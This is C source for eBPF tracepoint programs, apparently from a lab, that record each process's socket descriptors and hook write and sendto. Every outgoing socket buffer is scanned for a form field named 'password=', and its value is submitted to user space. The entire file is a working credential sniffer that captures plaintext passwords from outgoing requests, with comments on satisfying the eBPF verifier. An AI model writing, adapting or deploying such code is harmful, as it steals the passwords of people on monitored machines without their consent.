// Reads the request the way a form parser does: a field starts at the beginning of the bytes
// or right after an '&', and only a field named exactly "password" counts. The sockets are a
// set of {process, fd} keys in a struct with explicit padding, zeroed before use.
#include "lab.h"

struct fd_key {
	__u32 tgid;
	__u32 pad;
	__u64 fd;
};

struct {
	__uint(type, BPF_MAP_TYPE_HASH);
	__uint(max_entries, 128);
	__type(key, struct fd_key);
	__type(value, __u64);
} socket_fds SEC(".maps");

struct form_copy {
	char bytes[256];
};

struct {
	__uint(type, BPF_MAP_TYPE_PERCPU_ARRAY);
	__uint(max_entries, 1);
	__type(key, __u32);
	__type(value, struct form_copy);
} req_copy SEC(".maps");

static __always_inline void make_key(struct fd_key *k, __u64 fd)
{
	__builtin_memset(k, 0, sizeof(*k));
	k->tgid = bpf_get_current_pid_tgid() >> 32;
	k->fd = fd;
}

/* True when the field starting at `at` is named "password": the 9 bytes "password=". */
static __always_inline int is_password(const struct form_copy *r, __u32 at)
{
	return at < 256 - 9 && bpf_strncmp(&r->bytes[at], 9, "password=") == 0;
}

/* Where the password's value starts, or 0 when no field is named "password". */
__noinline __u32 password_field(const struct form_copy *r, __u32 n)
{
	if (!r)
		return 0;
	/* the bytes begin a field, and so does every byte after an '&' */
	if (n >= 9 && is_password(r, 0))
		return 9;
	/* compare n in the loop's condition only: a comparison inside would split the verifier's
	 * knowledge of n on every path, and it would follow each one separately */
	for (__u32 i = 0; i < 240 && i + 1 + 9 <= n; i++) {
		if (r->bytes[i & 255] == '&' && is_password(r, i + 1))
			return i + 1 + 9;
	}
	return 0;
}

/* Bytes of the value that starts at `from`: up to the next '&' or the end of the request. */
__noinline __u32 value_length(const struct form_copy *r, __u32 from, __u32 n)
{
	__u32 len = 0;

	if (!r)
		return 0;
	while (len < 120 && from + len < n && r->bytes[(from + len) & 255] != '&')
		len++;
	return len;
}

SEC("tracepoint/syscalls/sys_exit_socket")
int got_socket(struct trace_event_raw_sys_exit *ctx)
{
	struct fd_key k;
	__u64 when = 1;

	if (ctx->ret < 0)
		return 0;
	make_key(&k, ctx->ret);
	bpf_map_update_elem(&socket_fds, &k, &when, BPF_ANY);
	return 0;
}

SEC("tracepoint/syscalls/sys_enter_close")
int closed(struct trace_event_raw_sys_enter *ctx)
{
	struct fd_key k;

	make_key(&k, ctx->args[0]);
	bpf_map_delete_elem(&socket_fds, &k);
	return 0;
}

static __always_inline void outgoing(__u64 fd, const char *buf, __u64 count)
{
	struct fd_key k;
	__u32 zero = 0, n;
	struct form_copy *r;
	__u32 found;

	make_key(&k, fd);
	if (!bpf_map_lookup_elem(&socket_fds, &k))
		return;
	r = bpf_map_lookup_elem(&req_copy, &zero);
	n = count > 256 ? 256 : count;
	if (!r || bpf_probe_read_user(r->bytes, n, buf))
		return;
	found = password_field(r, n);
	if (found)
		SUBMIT_USER(buf + found, value_length(r, found, n));
}

SEC("tracepoint/syscalls/sys_enter_write")
int on_write(struct trace_event_raw_sys_enter *ctx)
{
	outgoing(ctx->args[0], (const char *)ctx->args[1], ctx->args[2]);
	return 0;
}

SEC("tracepoint/syscalls/sys_enter_sendto")
int on_sendto(struct trace_event_raw_sys_enter *ctx)
{
	outgoing(ctx->args[0], (const char *)ctx->args[1], ctx->args[2]);
	return 0;
}
